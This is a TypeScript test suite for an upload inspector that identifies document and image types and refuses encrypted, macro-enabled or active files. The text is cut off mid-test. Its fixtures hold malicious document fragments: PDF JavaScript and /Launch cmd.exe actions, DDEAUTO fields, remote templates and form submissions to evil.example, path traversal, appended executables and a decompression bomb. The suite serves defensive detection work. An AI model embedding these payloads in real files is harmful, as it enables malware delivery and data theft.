import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { crc32, deflateSync } from "node:zlib";
import * as fc from "fast-check";
import { fileTypeFromBuffer } from "file-type";
import { afterAll, expect, test } from "vitest";
import { inspect } from "./inspect.ts";
import { compoundFile } from "#test/compound-file.ts";
import {
  doc,
  docx,
  dwg,
  dwg2000,
  exe,
  fieldText,
  jpg,
  odt,
  pdf,
  pdfStream,
  png,
  relation,
  rtf,
  zip,
} from "#test/sample-files.ts";
import { makeFolder } from "#test/folders.ts";

const folder = makeFolder({ whenDone: afterAll });

/** The head of a metafile of Windows. */
const emf = Buffer.concat([
  Buffer.from([1, 0, 0, 0]),
  Buffer.alloc(36),
  Buffer.from(" EMF"),
  Buffer.alloc(60),
]);
const macro = "application/vnd.ms-word.document.macroEnabled.main+xml";
const script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
const objectStream = "/Type/ObjStm/N 1/First 4/Filter/FlateDecode";

test.each([
  ["pdf", pdf()],
  ["docx", docx()],
  ["doc", doc()],
  ["doc, its stream among the small ones", doc({ size: 2000 })],
  ["odt", odt()],
  ["rtf", rtf],
  ["jpg", jpg],
  ["png", png],
  ["dwg", dwg()],
  ["dwg, of AutoCAD 2000", dwg2000],
])("a file is known by its content: %s", async (name, bytes) => {
  expect(await look(bytes)).toEqual({ type: name.split(",")[0] });
});

test.each([
  ["nothing", Buffer.alloc(0)],
  ["one byte", Buffer.from("%")],
  ["a program", exe],
  ["words", Buffer.from("Ana Pérez, welder")],
  ["a page", Buffer.from("<!doctype html><script>alert(1)</script>")],
  ["a PDF behind something else", Buffer.concat([Buffer.from("MZ"), pdf()])],
  ["an archive", zip({ "cv.pdf": pdf() })],
  ["an archive without entries", zip({})],
  ["an archive that breaks off", docx().subarray(0, -30)],
  ["a spreadsheet", zip({ "[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>" })],
  ["an OpenDocument spreadsheet", odt({ mimetype: "application/vnd.oasis.opendocument.spreadsheet" })],
  ["an archive with a path out of it", docx({ "../../etc/passwd": "root" })],
  ["an old spreadsheet", compoundFile({ Workbook: Buffer.alloc(5000) })],
  [
    "an old spreadsheet with a letter in it",
    compoundFile({ Workbook: Buffer.alloc(5000), MBD1: { WordDocument: Buffer.alloc(9) } }),
  ],
  ["an old document that is none", compoundFile({ WordDocument: Buffer.alloc(5000) })],
  ["an old document that breaks off", doc().subarray(0, 1000)],
  ["a JPEG-LS", Buffer.from([0xff, 0xd8, 0xff, 0xf7, 0, 0])],
])("another file type is not accepted: %s", async (_name, bytes) => {
  expect(await look(bytes)).toBeUndefined();
});

test.each([
  ["trailer", pdf({ trailer: "/Encrypt 5 0 R" })],
  ["trailer, inline dictionary", pdf({ trailer: "/Encrypt<</Filter/Standard>>" })],
  ["trailer, with escapes and a comment", pdf({ trailer: "/#45ncrypt%\n5 0 R" })],
  ["cross-reference stream", pdf({ objects: pdfStream("/Type/XRef/Encrypt 5 0 R", Buffer.alloc(9)) })],
  [
    "trailer, after encrypted objects",
    pdf({ objects: pdfStream(objectStream, Buffer.from("?#%!")), trailer: "/Encrypt 5 0 R" }),
  ],
])("a PDF with a password is refused, declared in its %s", async (_name, bytes) => {
  expect(await look(bytes)).toEqual({ type: "pdf", refusal: "file.protected" });
});

test.each([
  ["DOCX", "docx", compoundFile({ EncryptionInfo: Buffer.alloc(50), EncryptedPackage: Buffer.alloc(5000) })],
  ["DOCX, encrypted as an archive", "docx", docx({}, { isEncrypted: true })],
  ["DOC", "doc", doc({ flags: 0x0100 })],
  ["ODT", "odt", odt({ "META-INF/manifest.xml": "<manifest:encryption-data/>" })],
])("a document with a password is refused: %s", async (_name, type, bytes) => {
  expect(await look(bytes)).toEqual({ type, refusal: "file.protected" });
});

test.each([
  ["DOCX", "docx", docx({ "word/vbaProject.bin": "code" })],
  ["DOCX, macros in another part", "docx", docx({ "Word/x/VBAPROJECT.BIN": "code" })],
  [
    "DOCX by its content types",
    "docx",
    docx({ "[Content_Types].xml": `<Override ContentType="${macro}"/>` }),
  ],
  [
    "DOCX by its content types in character references",
    "docx",
    docx({
      "[Content_Types].xml": `<Types><Override ContentType="${macro.replace("E", "&#69;")}"/></Types>`,
    }),
  ],
  ["ODT, inside an object", "odt", odt({ "Object 1/Basic/script-lc.xml": "<library/>" })],
  ["DOC", "doc", doc({ more: { Macros: { VBA: { dir: Buffer.alloc(9) } } } })],
  ["DOC with a sheet that has some", "doc", doc({ more: { ObjectPool: { _1: { _VBA_PROJECT_CUR: {} } } } })],
  ["ODT, Basic", "odt", odt({ "Basic/script-lc.xml": "<library/>" })],
  ["ODT, Python", "odt", odt({ "Scripts/python/run.py": "print()" })],
])("a document with macros is refused: %s", async (_name, type, bytes) => {
  expect(await look(bytes)).toEqual({ type, refusal: "file.macros" });
});

test.each([
  ["a script", pdf({ objects: `5 0 obj ${script} endobj\n` })],
  [
    "a script, its name in hexadecimal escapes",
    pdf({ objects: "5 0 obj <</#53 /J#61vaScrip#74>> endobj\n" }),
  ],
  ["a script behind a comment", pdf({ objects: "5 0 obj <</S % harmless\n /JavaScript>> endobj\n" })],
  ["a program that starts", pdf({ objects: "5 0 obj <</S /Launch /F (cmd.exe)>> endobj\n" })],
  ["files in it", pdf({ objects: "5 0 obj <</Names<</EmbeddedFiles 6 0 R>>>> endobj\n" })],
  ["a file as a note", pdf({ objects: "5 0 obj <</Subtype/FileAttachment>> endobj\n" })],
  ["a script in an object stream", pdf({ objects: pdfStream(objectStream, deflateSync(script)) })],
  [
    "a script in an object stream that is not deflated",
    pdf({ objects: pdfStream("/Type/ObjStm", Buffer.from(script)) }),
  ],
  [
    "a script across two chunks of the file",
    pdf({ objects: `${" ".repeat(65_536 - 320)}${`${script} `.repeat(20)}` }),
  ],
])("a PDF with active content is refused: %s", async (_name, bytes) => {
  expect(await look(bytes)).toEqual({ type: "pdf", refusal: "file.active" });
});

test.each([
  ["a link to a file on another machine", "<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)>>"],
  ["an embedded file", "<</S/GoToE>>"],
  ["a form that is sent", "<</S/SubmitForm/F(https://evil.example)>>"],
  ["data that are loaded", "<</S/ImportData/F(x.fdf)>>"],
  ["a film", "<</S/Rendition/OP 0>>"],
  ["a player", "<</Subtype/RichMedia>>"],
  ["a model in three dimensions", "<</Subtype/3D>>"],
  ["a form with a program", "<</XFA[(template) 6 0 R]>>"],
  ["a form with a program, elsewhere", "<</XFA 6 0 R>>"],
  ["a file without its type", "<</Type/Filespec/EF<</F 6 0 R>>>>"],
  ["an action that stands elsewhere", "<</S 6 0 R>>"],
  ["an action that stands elsewhere, with a comment", "<</S 6 % x\n 0 R>>"],
  ["a script behind a long comment", `<</S%${"x".repeat(5000)}\n/JavaScript>>`],
  ["a script behind many spaces", `<</S${" ".repeat(70_000)}/JavaScript>>`],
  ["a script behind a comment with a key in it", "<</S %/S x\n /JavaScript>>"],
  ["a script behind a percent sign in a string", "<</T(/S %)/S /JavaScript>>"],
  ["a script inside a string", "(<</S/JavaScript>>)"],
  ["a script behind the word in a comment", "%stream (\n<</S/JavaScript>>"],
  ["a link to a file", "<</S/URI/URI(file:///C:/x.exe)>>"],
  ["a link to a file, escaped", "<</S/URI/URI(\\146i\\\nle://host/x)>>"],
  ["a link to a file in numbers", "<</S/URI/URI <66696C653A2F2F78>>>"],
  ["a link to a share", "<</S/URI/URI(\\\\\\\\host\\\\x)>>"],
  ["a link that is a script", "<</S/URI/URI(java\\tscript:x)>>"],
  ["a link behind one that is none", "(/URI (http://ok)<</URI(file://x)>>"],
  ["links that are completed to a file", "<</URI<</Base(file:///C:/)>>>>"],
  ["links inside of each other", `<</S/URI${"/URI(a".repeat(20)}>>`],
  ["a link that stands elsewhere", "<</S/URI/URI 6 0 R>>"],
])("a PDF that opens, loads or sends anything is refused: %s", async (_name, object) => {
  expect(await look(pdf({ objects: `5 0 obj ${object} endobj\n` }))).toEqual({
    type: "pdf",
    refusal: "file.active",
  });
});

test.each([
  ["after a comment that looks like an object stream", `%${packed("stream")}\n5 0 obj${script}endobj\n`],
  ["after packed objects", `5 0 obj<<${objectStream}>>stream\n${deflated("1 0 null")}${script}\nendstream\n`],
  ["in an object stream whose dictionary has the word in a string", packed("/X(>>stream)>>stream\n")],
  [
    "in an object stream whose dictionary has objects in a string",
    packed("/X(endstream endobj 5 0 obj)>>stream\n"),
  ],
  ["in an object stream behind a comment", packed(">>%\nstream\n")],
  ["in an object stream inside of a string", `9 0 obj<</X(${packed(">>stream\n")}`],
  [
    "in an object stream whose keys are escaped",
    packed("", "/Typ#65/Obj#53tm/#46irst 4/#4E 1/#46ilter/#46lateDecode>>stream\n"),
  ],
])("a script in a PDF is found %s", async (_name, objects) => {
  const file = pdf({ objects: Buffer.from(objects, "latin1") });
  expect(await look(file)).toEqual({ type: "pdf", refusal: "file.active" });
});

/** An object stream with a script, whose dictionary goes on as given. */
function packed(rest: string, dictionary = objectStream): string {
  return `5 0 obj<<${dictionary}${rest}${deflated(script)}\nendstream endobj\n`;
}

function deflated(text: string): string {
  return deflateSync(text).toString("latin1");
}

test("objects are inspected even if their stream's dictionary is long or has no type", async () => {
  const objects = deflateSync(script);
  const long = `/Type/ObjStm/X(${" ".repeat(2000)})/N 1/First 4/Filter/FlateDecode`;
  for (const dictionary of [long, "/Type 7 0 R/N 1/First 4/Filter/FlateDecode"])
    expect(await look(pdf({ objects: pdfStream(dictionary, objects) }))).toEqual({
      type: "pdf",
      refusal: "file.active",
    });
  const longer = long.replace("(", `(${" ".repeat(100_000)}`);
  expect(await look(pdf({ objects: pdfStream(longer, objects) }))).toMatchObject({ refusal: "file.active" });
});

test.each([
  [
    "links to the web, a mailbox and a telephone",
    "<</S/URI/URI(https://x.example/a?b=(c))>><</S/URI/URI(mailto:a@b)>><</S/URI/URI(tel:+34)>>",
  ],
  ["a link without a scheme", "<</S/URI/URI(www.linkedin.com/in/ana)>>"],
  ["a form without a program", "<</AcroForm<</Fields[6 0 R]/NeedAppearances true>>>><</S/ResetForm>>"],
  ["a jump to a page", "<</OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>"],
  ["the entries of an outline", "<</First 6 0 R/Last 7 0 R/Count 2>>endobj 6 0 obj<</First 8 0 R/N 1>>"],
  ["a hint table", "<</Filter/FlateDecode/I 155/Length 103/S 84>>"],
  ["the structure of a text", "<</S/P/Type/StructElem>><</S/Transparency/Type/Group>><</S/D/St 1>>"],
])("an ordinary PDF passes: %s", async (_name, objects) => {
  expect(await look(pdf({ objects: `5 0 obj ${objects} endobj\n` }))).toEqual({ type: "pdf" });
});

test("line breaks and a few bytes may follow the end of a PDF, another file may not", async () => {
  expect(await look(Buffer.concat([pdf(), Buffer.from("\r\n\0\0")]))).toEqual({ type: "pdf" });
  expect(await look(Buffer.concat([pdf(), zip({ "x.exe": Buffer.alloc(5000, "MZ") })]))).toEqual({
    type: "pdf",
  });
  expect(await look(Buffer.concat([pdf(), Buffer.alloc(5000, "x")]))).toBeUndefined();
});

test.each([
  ["an embedded file", String.raw`{\object\objemb{\*\objdata 0105000002000000}}`],
  ["a linked file", String.raw`{\object\objautlink{\*\objclass Excel.Sheet}}`],
  ["an object whose word is split", "{\\obj\ndata 0105}"],
  ["a field that starts a program", String.raw`{\field{\*\fldinst DDEAUTO c:\\cmd.exe "/c calc"}}`],
  ["a field in pieces", String.raw`{\field{\*\fldinst {\b D}{\i DEA}UTO x}}`],
  ["a field in numbers", String.raw`{\field{\*\fldinst \u68?\'44\uc0\u69 AUTO x}}`],
  ["a field that loads a text", String.raw`{\field{\*\fldinst{ INCLUDETEXT "https://x.example/a" }}}`],
  ["a link to a share", String.raw`{\field{\*\fldinst HYPERLINK "\\\\host\\x"}}`],
  ["a remote template", String.raw`{\*\template https://evil.example/x.dotm}`],
  ["a template on a share", String.raw`{\*\template \\\\evil\\x.dotm}`],
  ["a template in numbers", String.raw`{\*\template \u104?ttps://evil.example}`],
  ["a remote picture", String.raw`{\sp{\sn pibName}{\sv https://x.example/a.png}}`],
  ["binary data before it", "{\\bin3 {{{}{\\object}"],
  ["a field behind many spaces", String.raw`{\field{\*\fldinst ${" ".repeat(5000)}DDEAUTO x}}`],
  ["a field whose name ends at a tab", String.raw`{\field{\*\fldinst DDEAUTO\tab c:\\cmd.exe}}`],
  ["a field that is not known", String.raw`{\field{\*\fldinst RUNTHIS x}}`],
  ["a field whose name is another field", String.raw`{\field{\*\fldinst {\field{\*\fldinst QUOTE 68}} x}}`],
  [
    "a link whose address is another field",
    String.raw`{\field{\*\fldinst HYPERLINK {\field{\*\fldinst REF a}}}}`,
  ],
  ["a field in a group that does not end", String.raw`{\field{\*\fldinst DDEAUTO x`],
  ["a field behind a group that ends a fallback", String.raw`{\field{\*\fldinst \uc4\u32{}DDE PAGE}}`],
  ["a field behind a word that is a fallback", String.raw`{\field{\*\fldinst \uc1\u32\b DDE PAGE}}`],
  [
    "a link behind a long tip",
    String.raw`{\field{\*\fldinst HYPERLINK \\o "${"a".repeat(5000)}" "file://x"}}`,
  ],
  [
    "a link split by words of layout",
    String.raw`{\field{\*\fldinst HYPERLINK "fi{\pararsid1 le://host/x}"}}`,
  ],
  ["a link of a shape to a file", String.raw`{\sp{\sn pihlShape}{\sv {\*\hl{\hlsrc file://host/x}}}}`],
  ["a fill from elsewhere", String.raw`{\sp{\sn fillBlipName}{\sv https://x.example/a.png}}`],
])("an RTF with active content is refused: %s", async (_name, content) => {
  expect(await look(Buffer.from(`{\\rtf1\\ansi ${content}}`))).toEqual({
    type: "rtf",
    refusal: "file.active",
  });
});

test.each([
  ["fields", String.raw`{\field{\*\fldinst { PAGE \\* MERGEFORMAT}}{\fldrslt 1}}`],
  [
    "links",
    String.raw`{\field{\*\fldinst HYPERLINK "mailto:ana@example.com" \\o "Write: now"}}{\field{\*\fldinst HYPERLINK \\l "top"}}`,
  ],
  ["a template of the writer's machine", String.raw`{\*\template C:\\Users\\Ana\\Templates\\CV.dotx}`],
  ["a picture", String.raw`{\pict\pngblip 89504e470d0a}{\sp{\sn pibName}{\sv photo.png}}`],
  ["a field inside a field", String.raw`{\field{\*\fldinst IF {\field{\*\fldinst PAGE}} = 1 "a"}}`],
  ["a formula", String.raw`{\field{\*\fldinst  = 1 + 2}}{\field{\*\fldinst  }}`],
  [
    "letters with fallbacks",
    String.raw`{\field{\*\fldinst HYPERLINK "https://x.example/\u225\'e1"}}P\u233?rez`,
  ],
  ["words about objects", String.raw`C:\\objects and \{\\object\} with DDEAUTO`],
])("an ordinary RTF passes: %s", async (_name, content) => {
  expect(await look(Buffer.from(`{\\rtf1\\ansi ${content}}`))).toEqual({ type: "rtf" });
});

test.each([
  ["many groups inside each other", "{".repeat(6000)],
  ["two fields in one group", String.raw`{\*\fldinst PAGE\fldinst PAGE}}`],
  ["many fields inside each other", "{\\*\\fldinst ".repeat(50)],
  ["binary data that hides the rest", String.raw`{\pict\bin4294967300 abcd}{\object}`],
  ["fallbacks that hide the rest", String.raw`{\*\fldinst \uc40\u32 DDE}`],
])("an RTF that no program writes has no type: %s", async (_name, content) => {
  expect(await look(Buffer.from(`{\\rtf1\\ansi ${content}`))).toBeUndefined();
});

const rels = "word/_rels/document.xml.rels";

test.each([
  ["a program", { "word/media/setup.exe": exe }],
  ["a program with a name in capitals", { "word/X.SCR": exe }],
  [
    "an object",
    { "word/embeddings/oleObject1.bin": "x", [rels]: relation("oleObject", "embeddings/oleObject1.bin") },
  ],
  ["an object by its relation alone", { [rels]: relation("oleObject", "media/image1.png") }],
  ["an object that is elsewhere", { [rels]: relation("oleObject", "https://evil.example/x", "External") }],
  ["a workbook", { "word/embeddings/a.xlsx": "x", [rels]: relation("package", "embeddings/a.xlsx") }],
  ["a control", { "word/activeX/activeX1.xml": "<x/>", [rels]: relation("control", "activeX/activeX1.xml") }],
  [
    "a remote template",
    {
      "word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/x.dotm", "External"),
    },
  ],
  [
    "a template on a share",
    { "word/_rels/settings.xml.rels": relation("attachedTemplate", "file://///evil/x.dotm", "External") },
  ],
  [
    "a template without its mode",
    { "word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/x") },
  ],
  ["a frame", { [rels]: relation("frame", "https://evil.example", "External") }],
  ["a remote picture", { [rels]: relation("image", "https://evil.example/a.png", "External") }],
  ["a page", { "word/afchunk.htm": "<script>" }],
  ["a page by its relation", { "word/a.xml": "<x/>", [rels]: relation("aFChunk", "a.xml") }],
  [
    "a program from the web",
    { "_rels/.rels": relation("webextensiontaskpanes", "word/webextensions/t.xml") },
  ],
  ["a link to a file", { [rels]: relation("hyperlink", "file:///C:/x.exe", "External") }],
  ["a link to a program", { [rels]: relation("hyperlink", "ms-msdt:/id", "External") }],
  ["entities in the address", { [rels]: relation("image", "&#104;ttps://evil.example", "External") }],
  ["a `>` in a value", { [rels]: relation("image", "https://evil.example", "External").replace("r1", ">") }],
  ["a field that starts a program", { "word/document.xml": fieldText("DDEAUTO c:\\\\cmd.exe") }],
  ["a field in pieces", { "word/document.xml": fieldText(" D", "DE", "AUTO c:\\\\cmd.exe") }],
  ["a field in a footnote", { "word/footnotes.xml": fieldText("DDE x") }],
  ["a field of an unknown name", { "word/document.xml": fieldText("RUNTHIS x") }],
  ["a field behind many spaces", { "word/document.xml": fieldText(" ".repeat(5000), "DDEAUTO x") }],
  ["a field in another folder", { "doc/document.xml": fieldText("DDEAUTO x") }],
  ["a field in a part of another ending", { "word/document.vml": fieldText("DDEAUTO x") }],
  ["a field in numbers", { "word/document.xml": fieldText("&#68;&#x44;EAUTO x") }],
  [
    "a field whose name is another field",
    { "word/document.xml": fieldText(`</w:instrText></w:r>${fieldText("QUOTE 68")}<w:r><w:instrText>x`) },
  ],
  ["a query", { "word/settings.xml": '<w:mailMerge><w:query w:val="x"/></w:mailMerge>' }],
  ["a film", { "word/document.xml": '<wp15:webVideoPr embeddedHtml="x"/>' }],
  ["a picture by its address", { "word/document.xml": '<v:imagedata src="https://evil.example/a"/>' }],
  ["a shape that leads to a file", { "word/document.xml": '<v:shape href="file://evil/a"/>' }],
  ["a drawing with a script", { "word/media/a.svg": "<svg><script>x</script></svg>" }],
  ["a drawing with a picture from elsewhere", { "word/media/a.svg": "<svg><image href='//x/a.png'/></svg>" }],
  ["a program by the name of a picture", { "word/media/m.png": exe }],
  ["a folder with something in it", { "word/x/": exe }],
  ["a relation that is not known", { [rels]: relation("runThis", "a.xml") }],
  ["a text that is kept as a picture", { "_rels/.rels": relation("officeDocument", "word/m.png") }],
  ["a text that is kept as data", { "_rels/.rels": relation("officeDocument", "customXml/item1.xml") }],
  [
    "a simple field",
    { "word/document.xml": '<w:document><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:document>' },
  ],
])("a DOCX with active content is refused: %s", async (_name, parts) => {
  expect(await look(docx(parts))).toEqual({ type: "docx", refusal: "file.active" });
});

test("an ordinary DOCX passes: pictures, links, a chart, fields, a local template", async () => {
  const parts = {
    "word/media/image1.png": png,
    "word/media/image2.emf": emf,
    "word/media/image3.svg": '<svg xmlns="http://www.w3.org/2000/svg"><use href="#a"/></svg>',
    "customXml/item1.xml": Buffer.from("<a/>", "utf16le"),
    "word/_rels/custom.xml.rels": relation("customXml", "../customXml/item1.xml"),
    "word/printerSettings/printerSettings1.bin": "x",
    "word/embeddings/Microsoft_Excel_Sheet1.xlsx": "x",
    "word/charts/_rels/chart1.xml.rels": relation("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx"),
    "word/_rels/settings.xml.rels": relation(
      "attachedTemplate",
      "file:///C:\\Users\\Ana\\CV.dotx",
      "External",
    ),
    [rels]:
      relation("image", "media/image1.png") +
      relation("hyperlink", "https://www.linkedin.com/in/ana", "External") +
      relation("hyperlink", "mailto:ana@example.com", "External"),
    "word/document.xml": `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${fieldText("PAGE", " \\* MERGEFORMAT")}`,
    "word/footer1.xml": fieldText('HYPERLINK "https://x.example" \\o "See: more"', ""),
    "word/header1.xml": fieldText(" MACROBUTTON NoMacro Click"),
    "docProps/thumbnail.jpeg": jpg,
    "word/": "",
  };
  expect(await look(docx(parts))).toEqual({ type: "docx" });
});

test("a DOCX with ambiguous relationships has no type", async () => {
  const twice = relation("styles", "styles.xml").replace(
    "Type=",
    'x:Type="x/styles" x:Target="a.xml" x:TargetMode="Internal" Type=',
  );
  expect(await look(docx({ [rels]: twice }))).toBeUndefined();
});

test.each([
  ["another encoding", Buffer.from("<w:document/>", "utf16le")],
  ["another encoding by name", '<?xml version="1.0" encoding="UTF-7"?><w:document/>'],
  ["a declaration", "<!DOCTYPE x><w:document/>"],
  ["a comment", "<w:document><!-- x --></w:document>"],
  ["an unknown entity", "<w:document>&x;</w:document>"],
  ["a number of many digits", "<w:document>&#x00000044;</w:document>"],
  ["two attributes whose names differ by their prefix", '<w:fldSimple x:instr="PAGE" w:instr="DDEAUTO x"/>'],
  ["attributes that are not well-formed", '<w:fldSimple x=a"b" w:instr="PAGE"/>'],
  ["an instruction beyond all measure", fieldText(`PAGE${" ".repeat(70_000)}`)],
  ["bytes that are no text", Buffer.from([0x3c, 0xff, 0x3e])],
])("a DOCX whose text is ambiguous has no type: %s", async (_name, text) => {
  expect(await look(docx({ "word/document.xml": text }))).toBeUndefined();
});

const content = (inner: string) => ({
  "content.xml": `<office:document-content>${inner}</office:document-content>`,
});

test.each([
  ["a remote picture", content('<draw:image xlink:href="https://evil.example/a.png"/>')],
  ["a remote text", content('<text:section-source xlink:href="//evil/x.odt"/>')],
  ["a connection to a program", content('<text:dde-connection-decl office:dde-application="soffice"/>')],
  ["a script that an event starts", content('<script:event-listener xlink:href="vnd.sun.star.script:x"/>')],
  ["a link that is a script", content('<text:a xlink:href="javascript:x">a</text:a>')],
  ["an object of another program", { "Object 1": "x" }],
  ["an object with a remote picture", { "Object 1/content.xml": '<draw:image xlink:href="file://evil/x"/>' }],
  [
    "a nested object with a remote picture",
    { "Object 1/Object 2/content.xml": '<draw:image xlink:href="file://evil/x"/>' },
  ],
  ["addresses that begin elsewhere", content('<draw:frame xml:base="https://evil.example/"/>')],
  ["a form that is sent", content('<xforms:submission action="https://evil.example/"/>')],
  ["a part that a text does not have", { "Configurations2/accelerator/current.xml": "<x/>" }],
  ["a program by the name of a picture", { "Pictures/1.png": exe }],
  ["a remote template", { "meta.xml": '<meta:template xlink:href="https://evil.example/x.ott"/>' }],
  ["a program", { "Pictures/setup.EXE": exe }],
])("an ODT with active content is refused: %s", async (_name, parts) => {
  expect(await look(odt(parts))).toEqual({ type: "odt", refusal: "file.active" });
});

test("an ODT with ambiguous picture references has no type", async () => {
  const image = '<draw:image x:href="Pictures/a.png" xlink:href="https://evil.example/a.png"/>';
  expect(await look(odt(content(image)))).toBeUndefined();
});

test("an ordinary ODT passes: pictures, links, a chart, a local template", async () => {
  const parts = {
    ...content(
      '<office:scripts/><draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/>' +
        '<text:a xlink:href="https://x.example">a</text:a><text:a xlink:href="#top">b</text:a>',
    ),
    "Object 1/content.xml": "<office:document-content/>",
    "ObjectReplacements/Object 1": "x",
    "meta.xml": '<meta:template xlink:href="../../AppData/Roaming/CV.ott"/>',
    "Configurations2/toolbar/": "",
    "Configurations2/accelerator/current.xml": "",
    "media/image1.jpeg": jpg,
    "Fonts/Font_1.ttf": "x",
    "manifest.rdf": "<rdf:RDF/>",
    "layout-cache": "x",
    "Pictures/1.png": png,
  };
  expect(await look(odt(parts))).toEqual({ type: "odt" });
});

const template = (address: string) => {
  // The list of texts: a mark, how many, nothing else with each; an empty one, then the address.
  const list = Buffer.alloc(200);
  list.writeUInt16LE(0xffff, 0);
  list.writeUInt16LE(18, 2);
  list.writeUInt16LE(address.length, 8);
  list.write(address, 10, "utf16le");
  return list;
};

test.each([
  ["an object", { ObjectPool: { _1: { "\u0001CompObj": Buffer.alloc(9) } } }, Buffer.alloc(100)],
  ["a file in an object", { "\u0001Ole10Native": Buffer.alloc(9) }, Buffer.alloc(100)],
  [
    "a field that starts a program",
    { Text: Buffer.from("\x13 DDEAUTO c:\\\\cmd.exe\x14") },
    Buffer.alloc(100),
  ],
  ["the same in UTF-16", { Text: Buffer.from("\x13DDE excel\x14", "utf16le") }, Buffer.alloc(100)],
  ["a remote template", {}, template("https://evil.example/x.dotm")],
  ["a template on a share", {}, template("\\\\evil\\x.dot")],
])("a DOC with active content is refused: %s", async (_name, more, texts) => {
  expect(await look(doc({ more, texts }))).toEqual({ type: "doc", refusal: "file.active" });
});

test("an ordinary DOC passes: fields, an empty object pool, a local template", async () => {
  const more = {
    ObjectPool: {},
    Text: Buffer.from('\x13 HYPERLINK "mailto:a@b" \x14a\x15\x13 PAGE \x14\x13 MACROBUTTON NoMacro x\x15'),
  };
  expect(await look(doc({ more, texts: template("C:\\Users\\Ana\\CV.dot") }))).toEqual({ type: "doc" });
});

test.each([
  ["a program appended to it", Buffer.concat([jpg, exe]), undefined],
  ["an archive appended to it", Buffer.concat([jpg, zip({ "a.exe": exe })]), undefined],
  ["a page behind it", Buffer.concat([jpg, Buffer.from("\n<script>alert(1)</script>")]), undefined],
  ["a document behind it", Buffer.concat([jpg, pdf()]), undefined],
  ["nothing but a beginning", Buffer.concat([jpg.subarray(0, 4), Buffer.alloc(500)]), undefined],
  ["no picture before its end", Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 2, 0xff, 0xd9]), undefined],
  ["a second picture behind it", Buffer.concat([jpg, jpg]), "jpg"],
  ["zeros behind it", Buffer.concat([jpg, Buffer.alloc(70_000)]), "jpg"],
  ["a film behind it", Buffer.concat([jpg, Buffer.from("\0\0\0\x18ftypmp42")]), "jpg"],
  ["an end that was cut off", jpg.subarray(0, -2), "jpg"],
  [
    "a scanner's metadata",
    Buffer.concat([
      jpg.subarray(0, 2),
      segment(0xe1, "Exif\0\0".padEnd(60_000)),
      segment(0xfe, "<script>"),
      jpg.subarray(2),
    ]),
    "jpg",
  ],
  [
    "fill bytes between",
    Buffer.concat([jpg.subarray(0, 20), Buffer.alloc(9, 0xff), jpg.subarray(20)]),
    "jpg",
  ],
])("a JPEG is read to its end: %s", async (_name, bytes, type) => {
  expect((await look(bytes))?.type).toBe(type);
});

test("a PNG is read to its end, with the checksum of each chunk", async () => {
  expect(await look(png.subarray(0, 33))).toBeUndefined();
  expect(await look(Buffer.concat([png, exe]))).toBeUndefined();
  expect(await look(Buffer.concat([png, Buffer.alloc(20)]))).toEqual({ type: "png" });
  const damaged = Buffer.from(png);
  damaged[45] = damaged[45]! ^ 1;
  expect(await look(damaged)).toBeUndefined();
  const huge = Buffer.from(png);
  huge.writeUInt32BE(100_000, 16);
  huge.writeUInt32BE(100_000, 20);
  huge.writeUInt32BE(crc32(huge.subarray(12, 29)), 29);
  expect(await look(huge)).toBeUndefined();
});

test("a drawing's header gives its version, encryption and macros", async () => {
  expect(await look(Buffer.concat([Buffer.from("AC1032"), Buffer.alloc(300)]))).toBeUndefined();
  expect(await look(Buffer.concat([Buffer.from("AC1099"), dwg().subarray(6)]))).toBeUndefined();
  expect(await look(dwg2000.subarray(0, 60))).toBeUndefined();
  expect(await look(Buffer.concat([Buffer.from("AC1009"), Buffer.alloc(300)]))).toBeUndefined();
  expect(await look(dwg({ 0x18: 1 }))).toEqual({ type: "dwg", refusal: "file.protected" });
  expect(await look(dwg({ 0x24: 0x90 }))).toEqual({ type: "dwg", refusal: "file.macros" });
});

function segment(marker: number, text: string): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([head, Buffer.from(text, "latin1")]);
}

test("the words of active features in a PDF's text do not count as active", async () => {
  const words = "5 0 obj <</Title (HTML/JavaScript/CSS, streams, /Launch, /Encrypt)>> endobj\n";
  expect(await look(pdf({ objects: words, pageText: "(/S /JavaScript) Tj" }))).toEqual({ type: "pdf" });
});

test("a PDF with unreadable objects has no type", async () => {
  const objects = pdfStream(objectStream, deflateSync(script).subarray(0, -4));
  expect(await look(pdf({ objects }))).toBeUndefined();
});

test("objects packed with a filter that no program uses have no type", async () => {
  const hidden = (filter: string) => pdf({ objects: pdfStream(`/Type/ObjStm${filter}`, Buffer.from("00")) });
  expect(await look(hidden("/Filter/ASCIIHexDecode"))).toBeUndefined();
  expect(await look(hidden("/Filter[/FlateDecode/LZWDecode]"))).toBeUndefined();
  expect(await look(hidden("/Filter/FlateDecode/DecodeParms<</Predictor 12>>"))).toBeUndefined();
  expect(await look(hidden("/X(/Filter/FlateDecode)/Filter/ASCIIHexDecode"))).toBeUndefined();
  const twice = pdfStream("/Type/ObjStm/Filter/FlateDecode/Filter/ASCIIHexDecode", deflateSync("1 0 null"));
  expect(await look(pdf({ objects: twice }))).toBeUndefined();
  expect(await look(hidden("/Filter 7 0 R"))).toBeUndefined();
  expect(await look(hidden("/N 1/First 4/X(x)/F(x.bin)"))).toBeUndefined();
});

test("bytes after packed objects have no type", async () => {
  const objects = pdfStream(objectStream, Buffer.concat([deflateSync("1 0 null"), Buffer.from("more")]));
  expect(await look(pdf({ objects }))).toBeUndefined();
});

test("a decompression bomb has no type", async () => {
  const picture = docx({ "word/media/image1.bmp": "" });
  // What the table of contents says it inflates to.
  picture.writeUInt32LE(300 * 1024 * 1024, picture.lastIndexOf("word/media") - 22);
  expect(await look(picture)).toBeUndefined();
  expect(await look(docx({ "[Content_Types].xml": Buffer.alloc(2 * 1024 * 1024) }))).toBeUndefined();
  const bomb = deflateSync(Buffer.alloc(700 * 1024));
  const objects = Buffer.concat([pdfStream(objectStream, bomb), pdfStream(objectStream, bomb)]);
